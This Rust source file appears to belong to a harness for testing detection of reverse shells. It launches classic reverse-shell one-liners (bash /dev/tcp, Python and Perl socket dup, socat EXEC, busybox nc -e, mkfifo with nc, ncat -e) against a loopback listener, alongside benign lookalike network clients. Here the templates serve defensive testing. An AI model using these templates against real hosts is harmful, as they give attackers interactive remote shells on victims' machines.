//! Shells whose standard streams lead to someone else's machine (here: to a listener of the stage on loopback).

use std::net::{Ipv4Addr, TcpStream};
use std::os::fd::OwnedFd;
use std::process::{Command, Stdio};

use crate::child::PART_VARIABLE;
use crate::operator::Operator;
use crate::{BehaviorError, Performed, Stage};

/// Starts what `command` makes of the operator's port, and commands the shell that calls.
fn call_home(
    stage: &Stage,
    command: impl FnOnce(u16) -> Result<Command, BehaviorError>,
) -> Result<Performed, BehaviorError> {
    let operator = Operator::listen()?;
    let mut command = command(operator.port())?;
    let performed = stage.begin();
    let shell = stage.start(&mut command)?;
    operator.command_shell(stage)?;
    // How it ends is its own affair: some clients report a connection that was closed on them.
    shell.wait()?;
    Ok(performed)
}

fn with_arguments(mut command: Command, arguments: &[&str]) -> Result<Command, BehaviorError> {
    command.args(arguments);
    Ok(command)
}

/// `bash -i >& /dev/tcp/…`.
pub(crate) fn by_bash(stage: &Stage) -> Result<Performed, BehaviorError> {
    call_home(stage, |port| {
        let script = format!("bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1");
        with_arguments(stage.command("bash"), &["-c", &script])
    })
}

/// Python moves its socket onto the three streams and starts a shell.
pub(crate) fn by_python(stage: &Stage) -> Result<Performed, BehaviorError> {
    call_home(stage, |port| {
        let script = format!(
            "import os, socket, subprocess\n\
             peer = socket.create_connection(('127.0.0.1', {port}))\n\
             for stream in (0, 1, 2): os.dup2(peer.fileno(), stream)\n\
             subprocess.call(['/bin/sh', '-i'])"
        );
        with_arguments(stage.command("python3"), &["-c", &script])
    })
}

/// Perl does the same, and becomes the shell.
pub(crate) fn by_perl(stage: &Stage) -> Result<Performed, BehaviorError> {
    call_home(stage, |port| {
        let script = format!(
            "use IO::Socket::INET; my $peer = IO::Socket::INET->new('127.0.0.1:{port}') or die; \
             open STDIN, '<&', $peer; open STDOUT, '>&', $peer; open STDERR, '>&', $peer; exec '/bin/sh', '-i';"
        );
        with_arguments(stage.command("perl"), &["-e", &script])
    })
}

/// socat hands the connection itself to the shell.
pub(crate) fn by_socat_nofork(stage: &Stage) -> Result<Performed, BehaviorError> {
    call_home(stage, |port| {
        with_arguments(stage.command("socat"), &[&format!("TCP:127.0.0.1:{port}"), "EXEC:/bin/sh,nofork"])
    })
}

/// socat as it is mostly used: the shell gets a Unix socket pair, socat carries the bytes.
pub(crate) fn by_socat(stage: &Stage) -> Result<Performed, BehaviorError> {
    call_home(stage, |port| {
        with_arguments(stage.command("socat"), &[&format!("TCP:127.0.0.1:{port}"), "EXEC:/bin/sh"])
    })
}

/// `busybox nc -e`.
pub(crate) fn by_busybox(stage: &Stage) -> Result<Performed, BehaviorError> {
    call_home(stage, |port| {
        with_arguments(stage.command("busybox"), &["nc", "127.0.0.1", &port.to_string(), "-e", "/bin/sh"])
    })
}

/// The named pipe between a shell and nc.
pub(crate) fn by_fifo_and_nc(stage: &Stage) -> Result<Performed, BehaviorError> {
    call_home(stage, |port| {
        let script = format!("mkfifo f; cat f | sh -i 2>&1 | nc 127.0.0.1 {port} > f");
        with_arguments(stage.command("sh"), &["-c", &script])
    })
}

/// ncat's `-e`: pipes to the shell, ncat carries the bytes.
pub(crate) fn by_ncat(stage: &Stage) -> Result<Performed, BehaviorError> {
    call_home(stage, |port| {
        with_arguments(stage.command("ncat"), &["127.0.0.1", &port.to_string(), "-e", "/bin/sh"])
    })
}

/// socat told to use pipes.
pub(crate) fn by_socat_pipes(stage: &Stage) -> Result<Performed, BehaviorError> {
    call_home(stage, |port| {
        with_arguments(stage.command("socat"), &[&format!("TCP:127.0.0.1:{port}"), "EXEC:/bin/sh,pipes"])
    })
}

/// A native implant: the parent holds the connection, the shell hangs on two pipes.
pub(crate) fn by_native_pipes(stage: &Stage) -> Result<Performed, BehaviorError> {
    call_home(stage, |port| with_arguments(stage.helper("implant", "pipe-shell")?, &[&port.to_string()]))
}

/// A shell that opens a connection of its own.
pub(crate) fn shell_connects(stage: &Stage) -> Result<Performed, BehaviorError> {
    let operator = Operator::listen()?;
    let script = format!("exec 5<>/dev/tcp/127.0.0.1/{}; cat <&5 >&5", operator.port());
    let performed = stage.begin();
    let shell = stage.start(stage.command("bash").args(["-c", &script]))?;
    operator.expect_echo(stage)?;
    shell.wait()?;
    Ok(performed)
}

/// A shell that reads its commands from a file; an inetd-like server whose program on the socket is no shell.
pub(crate) fn shell_on_file_and_cat_on_socket(stage: &Stage) -> Result<(), BehaviorError> {
    let script = stage.file("commands", "id -u\nexit 0\n")?;
    let input = std::fs::File::open(&script);
    let input = input.map_err(|source| BehaviorError::File { attempt: "open", path: script, source })?;
    let mut shell = stage.command("sh");
    shell.stdin(input).stdout(Stdio::null()).stderr(Stdio::null());
    stage.start_with_stdio(&mut shell)?.wait()?.success()?;
    serve_by_inetd(stage, stage.command("cat"))
}

/// A python client on the network that runs a shell, with the streams where they belong.
pub(crate) fn python_client_runs_shell(stage: &Stage) -> Result<(), BehaviorError> {
    let operator = Operator::listen()?;
    let script = format!(
        "import socket, subprocess\n\
         peer = socket.create_connection(('127.0.0.1', {}))\n\
         subprocess.check_call(['/bin/sh', '-c', 'uname -r'])\n\
         peer.sendall(peer.recv(100))",
        operator.port()
    );
    let script = stage.file("client.py", &script)?;
    let client = stage.start(stage.command("python3").arg(script))?;
    operator.expect_echo(stage)?;
    client.wait()?.success()?;
    Ok(())
}

/// A perl client that sends back what it hears.
pub(crate) fn perl_client(stage: &Stage) -> Result<(), BehaviorError> {
    let operator = Operator::listen()?;
    let script = format!(
        "use IO::Socket::INET; my $peer = IO::Socket::INET->new('127.0.0.1:{}') or die; print $peer scalar <$peer>;",
        operator.port()
    );
    let client = stage.start(stage.command("perl").args(["-e", &script]))?;
    operator.expect_echo(stage)?;
    client.wait()?.success()?;
    Ok(())
}

/// socat with a program that is no shell.
pub(crate) fn socat_runs_cat(stage: &Stage) -> Result<(), BehaviorError> {
    let operator = Operator::listen()?;
    let address = format!("TCP:127.0.0.1:{}", operator.port());
    let client = stage.start(stage.command("socat").args([&address, "EXEC:/bin/cat"]))?;
    operator.expect_echo(stage)?;
    client.wait()?;
    Ok(())
}

/// `busybox nc` that sends a file.
pub(crate) fn busybox_sends_file(stage: &Stage) -> Result<(), BehaviorError> {
    send_file(stage, stage.command("busybox"), &["nc"])
}

/// `nc` that sends a file, beside a shell that reads from a pipe.
pub(crate) fn nc_sends_file(stage: &Stage) -> Result<(), BehaviorError> {
    stage.sh("echo 'uname -r' | sh | cat")?;
    send_file(stage, stage.command("nc"), &[])
}

/// `ncat` that sends a file.
pub(crate) fn ncat_sends_file(stage: &Stage) -> Result<(), BehaviorError> {
    send_file(stage, stage.command("ncat"), &[])
}

/// A daemon with a connection that calls popen(3).
pub(crate) fn daemon_calls_popen(stage: &Stage) -> Result<(), BehaviorError> {
    let operator = Operator::listen()?;
    let daemon = stage.start(stage.helper("daemon", "popen")?.arg(operator.port().to_string()))?;
    drop(operator.accept()?);
    daemon.wait()?.success()?;
    Ok(())
}

/// A shell that has a client make the connection.
pub(crate) fn shell_runs_client(stage: &Stage) -> Result<(), BehaviorError> {
    let operator = Operator::listen()?;
    stage.helper("client", "retry")?;
    let script = format!("./client {} 1; exit 0", operator.port());
    let mut shell = stage.command("bash");
    let shell = stage.start(shell.args(["-c", &script]).env(PART_VARIABLE, "retry"))?;
    drop(operator.accept()?);
    shell.wait()?.success()?;
    Ok(())
}

/// A connection from this process to itself, one end of which becomes the standard streams of `program`.
fn serve_by_inetd(stage: &Stage, mut program: Command) -> Result<(), BehaviorError> {
    let server = Operator::listen()?;
    let client = TcpStream::connect((Ipv4Addr::LOCALHOST, server.port()));
    let client = client.map_err(BehaviorError::call("connect to the own listener"))?;
    let connection = OwnedFd::from(server.accept()?);
    let output = connection.try_clone().map_err(BehaviorError::call("duplicate a descriptor"))?;
    program.stdin(connection).stdout(output).stderr(Stdio::null());
    let served = stage.start_with_stdio(&mut program)?;
    // The command keeps its own copies of the descriptors until it is gone.
    drop(program);
    client.shutdown(std::net::Shutdown::Write).map_err(BehaviorError::call("end the request"))?;
    served.wait()?.success()?;
    Ok(())
}

fn send_file(stage: &Stage, mut client: Command, arguments: &[&str]) -> Result<(), BehaviorError> {
    let operator = Operator::listen()?;
    let path = stage.file("report.txt", "nothing to hide\n")?;
    let input = std::fs::File::open(&path);
    let input = input.map_err(|source| BehaviorError::File { attempt: "open", path, source })?;
    client.args(arguments).args(["127.0.0.1", &operator.port().to_string()]);
    client.stdin(input).stdout(Stdio::null()).stderr(Stdio::null());
    let client = stage.start_with_stdio(&mut client)?;
    let connection = operator.accept()?;
    connection.shutdown(std::net::Shutdown::Both).ok();
    drop(connection);
    client.wait()?;
    Ok(())
}
